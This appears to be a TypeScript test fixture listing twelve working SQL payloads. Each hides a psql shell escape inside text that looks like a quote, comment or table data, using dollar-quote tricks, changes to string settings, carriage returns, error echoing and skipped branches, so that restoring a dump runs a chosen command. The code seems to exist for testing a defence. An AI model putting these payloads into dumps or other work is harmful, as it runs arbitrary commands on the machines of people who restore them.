/**
 * Plain SQL that makes psql run a command on the machine that restores it, although it is within a quote, a comment
 * or a table's data for anyone who reads SQL in another way than psql. Each was seen to run by psql 15.
 */
export const ATTACKS: readonly (readonly [name: string, sql: (command: string) => string])[] = [
  ['a command', (command) => `\\! ${command}`],
  [
    'a COPY in a branch that is not taken',
    (command) => `\\if false\nCOPY t (a) FROM stdin;\n'\n\\.\nSELECT '\n\\endif\n\\! ${command}\n--';`,
  ],
  [
    'the message of an error',
    (command) =>
      `\\set ON_ERROR_STOP off\nDO $$ BEGIN RAISE EXCEPTION '\\! ${command}'; END $$;\n:LAST_ERROR_MESSAGE\n;`,
  ],
  [
    'a setting whose name is put together',
    (command) =>
      `SELECT set_config('standard_' || 'conforming_strings', 'off', false);\nSELECT '\\'' ;\n\\! ${command}\n--';`,
  ],
  [
    'a setting behind a long comment',
    (command) =>
      `SELECT /* ${'x'.repeat(5000)} */ set_config('standard_conforming_strings', 'off', false);\nSELECT '\\'' ;\n\\! ${command}\n--';`,
  ],
  [
    'a setting in a function',
    (command) =>
      `CREATE FUNCTION f() RETURNS text LANGUAGE sql AS $$ SELECT set_config('standard_conforming_strings', 'off', false) $$;\nSELECT f();\nSELECT '\\'' ;\n\\! ${command}\n--';`,
  ],
  ['a carriage return in a comment', (command) => `-- Name: a\r\\! ${command}`],
  ['a dollar quote behind a number', (command) => `\\set ON_ERROR_STOP off\nSELECT 1$$'$$;\n\\! ${command}\n--';`],
  ['a dollar quote behind a parameter', (command) => `\\set ON_ERROR_STOP off\nSELECT $1$$'$$;\n\\! ${command}\n--';`],
  [
    'a dollar quote with a long tag',
    (command) => `SELECT $${'t'.repeat(80)}$'$${'t'.repeat(80)}$;\n\\! ${command}\n--';`,
  ],
  [
    'what follows a COPY on its line',
    (command) => `COPY t (a) FROM stdin; SELECT '\n' || $$\n\\.\n';\n\\! ${command}\n-- $$;`,
  ],
  ['a variable within a statement', (command) => `\\set x '\\\\! ${command}'\nSELECT 1;\n:x`],
];
